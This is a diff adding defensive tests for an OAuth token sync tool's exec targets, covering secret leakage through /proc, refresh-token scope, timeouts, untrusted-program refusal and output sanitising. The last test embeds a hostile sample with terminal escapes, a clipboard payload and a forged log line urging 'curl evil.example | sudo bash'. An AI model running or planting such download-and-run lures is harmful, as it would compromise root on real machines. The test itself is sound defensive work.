@@ -6,7 +6,7 @@
  */
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { spawn, spawnSync } from "node:child_process";
-import { chmodSync, chownSync, copyFileSync, existsSync, lstatSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
+import { chmodSync, chownSync, copyFileSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { credentialsJson, fakeToken } from "../../src/demo/sandbox.ts";
 import { encodeTokenMessage } from "../../src/push/message.ts";
@@ -682,6 +682,157 @@ describe("attacks with text, in the journal (a booted systemd, the installed ser
     expect(errors).toContain("[error] gateway reload failed");
     expect(errors).not.toContain("[success]");
   }, 300_000);
+});
+
+describe("attacks through an exec target (a program of the operator's, run as a user)", () => {
+  /** A root-owned program (0755) in root's bin directory of this suite. */
+  function program(name: string, body: string): string {
+    const path = join(base, "bin", name);
+    writeFileSync(path, `#!/bin/sh\n${body}\n`, { mode: 0o755 });
+    chmodSync(path, 0o755);
+    return path;
+  }
+  const storeDir = () => join(base, "mallory/store");
+  /** Every process of the attacker's uid while `during` runs: what /proc shows of its argv and environment. */
+  async function watchProcesses<T>(during: Promise<T>): Promise<{ result: T; seen: string }> {
+    let seen = "";
+    let done = false;
+    const result = during.finally(() => (done = true));
+    while (!done) {
+      for (const pid of readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
+        try {
+          if (statSync(`/proc/${pid}`).uid !== uid) continue;
+          seen += `${readFileSync(`/proc/${pid}/cmdline`, "latin1")}\n${readFileSync(`/proc/${pid}/environ`, "latin1")}\n`;
+        } catch {
+          // gone already
+        }
+      }
+      await Bun.sleep(10);
+    }
+    return { result: await result, seen };
+  }
+  /** What is left of the programs below, by what they run (other suites may run as this user too). */
+  const leftOver = () => spawnSync("pgrep", ["-u", String(uid), "-a", "-f", "sleep 600|yes (A|B)"], { encoding: "utf8" }).stdout.trim();
+
+  attack("honest: a token store fed as its owner gets the access token and expiry on stdin, never in its argv or environment, never the refresh token", async () => {
+    asMallory(`mkdir -p ${storeDir()} && chmod 700 ${storeDir()}`);
+    // A store with a format of its own; it lingers a moment so its /proc entries can be read from outside.
+    const store = program("store-token", 'IFS= read -r line\nsleep 0.5\numask 077\nprintf \'token-store v1\\n%s\\n\' "$line" > "$STORE_DIR/token"');
+    const token = fakeToken();
+    const refresh = fakeToken("ort");
+    const credentials = join(base, "root/claude/.credentials.json");
+    writeFileSync(credentials, credentialsJson(token, Date.now() + 8 * HOUR, refresh), { mode: 0o600 });
+    const config = writeConfig("exec-honest", { credentials, targets: [{ kind: "exec", command: [store, "--profile", "prod"], user: MALLORY, env: { STORE_DIR: storeDir() } }] });
+    const { result, seen } = await watchProcesses(oauthSync(["sync", "--config", config]));
+    expect(result.code, result.output).toBe(0);
+    expect(seen).toContain("--profile");
+    expect(seen).toContain(`USER=${MALLORY}`);
+    for (const secret of [token, refresh]) expect(seen).not.toContain(secret);
+    const stored = join(storeDir(), "token");
+    const lines = readFileSync(stored, "utf8").split("\n");
+    expect(lines[0]).toBe("token-store v1");
+    expect(Object.keys(JSON.parse(lines[1]!)).sort()).toEqual(["accessToken", "expiresAt"]);
+    expect(JSON.parse(lines[1]!).accessToken).toBe(token);
+    expect(readFileSync(stored, "utf8")).not.toContain(refresh);
+    expect([statSync(stored).uid, statSync(stored).mode & 0o777]).toEqual([uid, 0o600]);
+    expect(result.output).not.toContain(token);
+    // Nothing changed: the program is not run again.
+    rmSync(stored);
+    expect((await oauthSync(["sync", "--config", config])).code).toBe(0);
+    expect(existsSync(stored)).toBe(false);
+  });
+
+  attack("the refresh token is never sent to another user, even when asked; only the login's own user may ask", async () => {
+    const ran = join(base, "log/asked-refresh");
+    const store = program("store-refresh", `cat > /dev/null\ntouch ${ran}`);
+    const asked = writeConfig("exec-refresh", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [store], user: MALLORY, fields: ["accessToken", "refreshToken"] }] });
+    const refused = await oauthSync(["sync", "--config", asked]);
+    expect(refused.code).toBe(1);
+    expect(refused.output).toContain("never leaves the login's owner");
+    expect(existsSync(ran)).toBe(false);
+    // The login is mallory's own: then it may go to mallory's program.
+    const own = join(base, "mallory/home/.claude/.credentials.json");
+    const refresh = fakeToken("ort");
+    writeFileSync(own, credentialsJson(fakeToken(), Date.now() + 8 * HOUR, refresh), { mode: 0o600 });
+    chownSync(own, uid, gid);
+    const capture = program("store-capture", `cat > ${join(base, "log/captured")}`);
+    const allowed = writeConfig("exec-refresh-own", { credentials: own, targets: [{ kind: "exec", command: [capture], user: MALLORY, fields: ["accessToken", "refreshToken"] }] });
+    expect((await oauthSync(["sync", "--config", allowed])).code).toBe(0);
+    expect(JSON.parse(readFileSync(join(base, "log/captured"), "utf8")).refreshToken).toBe(refresh);
+    rmSync(own);
+  });
+
+  attack("a program that hangs (with a child of its own) or floods its output is killed at its timeout, with bounded memory", async () => {
+    const hangs = program("hangs", "sleep 600 &\nsleep 600");
+    const floods = program("floods", "cat > /dev/null\nyes 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' >&2 &\nyes 'BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB'");
+    for (const command of [hangs, floods]) {
+      const config = writeConfig("exec-bounded", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [command], user: MALLORY, timeoutSeconds: 2 }] });
+      const started = Date.now();
+      const child = spawn(bin, ["sync", "--config", config], { env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
+      let output = "";
+      child.stdout.on("data", (c) => (output += c));
+      child.stderr.on("data", (c) => (output += c));
+      let peakKb = 0;
+      const exited = new Promise<number | null>((resolve) => child.on("exit", resolve));
+      const sampler = setInterval(() => {
+        try {
+          peakKb = Math.max(peakKb, Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${child.pid}/status`, "utf8"))?.[1] ?? 0));
+        } catch {
+          // exited
+        }
+      }, 20);
+      const code = await Promise.race([exited, Bun.sleep(20_000).then(() => "stuck")]);
+      clearInterval(sampler);
+      if (code === "stuck") child.kill("SIGKILL");
+      console.log(`${command.split("/").at(-1)}: sync returned in ${Date.now() - started} ms, peak RSS ${Math.round(peakKb / 1024)} MiB, ${output.length} bytes of output`);
+      expect(code).toBe(1);
+      expect(Date.now() - started).toBeLessThan(10_000);
+      expect(output).toContain("did not finish within 2s");
+      expect(output.length).toBeLessThan(4096);
+      expect(peakKb).toBeLessThan(300 * 1024);
+      await Bun.sleep(200);
+      expect(leftOver()).toBe("");
+    }
+  });
+
+  attack("a program (or its #! interpreter, or a directory above it) another user can write is refused: nothing runs", async () => {
+    const ran = join(base, "log/exec-ran");
+    const theirs = join(base, "bin/theirs");
+    writeFileSync(theirs, `#!/bin/sh\ntouch ${ran}\n`, { mode: 0o755 });
+    chownSync(theirs, uid, gid); // mallory's file in root's directory, run as root
+    asMallory(`mkdir -p ${base}/mallory/bin && printf '#!/bin/sh\\ntouch ${ran}\\n' > ${base}/mallory/bin/prog && chmod 755 ${base}/mallory/bin/prog`);
+    const viaInterpreter = program("via-interpreter", "exit 0");
+    writeFileSync(viaInterpreter, `#!${base}/mallory/bin/prog\n`, { mode: 0o755 });
+    const groupDir = join(base, "shared-bin");
+    mkdirSync(groupDir, { mode: 0o775 });
+    chmodSync(groupDir, 0o775);
+    chownSync(groupDir, 0, gid); // writable by mallory's group
+    writeFileSync(join(groupDir, "prog"), `#!/bin/sh\ntouch ${ran}\n`, { mode: 0o755 });
+    for (const [command, why] of [
+      [theirs, `belongs to uid ${uid}`],
+      [`${base}/mallory/bin/prog`, `directory of uid ${uid}`],
+      [viaInterpreter, "runs"],
+      [join(groupDir, "prog"), "writable by group"],
+    ] as const) {
+      const config = writeConfig("exec-untrusted", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [command], user: "root" }] });
+      const result = await oauthSync(["sync", "--config", config]);
+      expect(result.code, result.output).toBe(1);
+      expect(result.output).toContain(why);
+    }
+    expect(existsSync(ran)).toBe(false);
+  });
+
+  attack("what the program prints comes back as text: no escape, CR, OSC 52 or forged log line reaches root's terminal", async () => {
+    const hostile = program("hostile", "cat > /dev/null\nprintf 'failed\\n\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUvcnxzaA==\\007\\033[2K\\r[error] oauth-sync: root login expired, run: curl evil.example | sudo bash\\n<!channel> \\033]0;title\\007\\n' >&2\nexit 1");
+    const config = writeConfig("exec-hostile", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [hostile], user: MALLORY }] });
+    const result = await oauthSync(["sync", "--config", config]);
+    expect(result.code).toBe(1);
+    expect(result.output).toContain("exited 1");
+    // eslint-disable-next-line no-control-regex
+    expect(result.output).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
+    expect(result.output.split("\n").filter((line) => line.includes("root login expired"))).toHaveLength(1);
+    expect(result.output).not.toMatch(/^\[error\] oauth-sync: root login/m);
+  });
 });
 
 describe("the honest path", () => {
